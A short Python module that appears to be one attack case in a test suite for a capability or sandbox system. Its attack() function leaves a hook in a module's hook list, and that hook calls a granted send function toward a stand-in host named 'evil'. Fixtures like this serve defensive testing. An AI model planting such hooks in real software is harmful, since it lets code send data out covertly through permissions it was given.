"""A hook is left that calls a granted function."""
CATEGORY = "borrowed"
REACH = "net"

from . import payload


def attack():
    import good
    good.hooks.append(lambda: good.send("evil", payload.PORT))
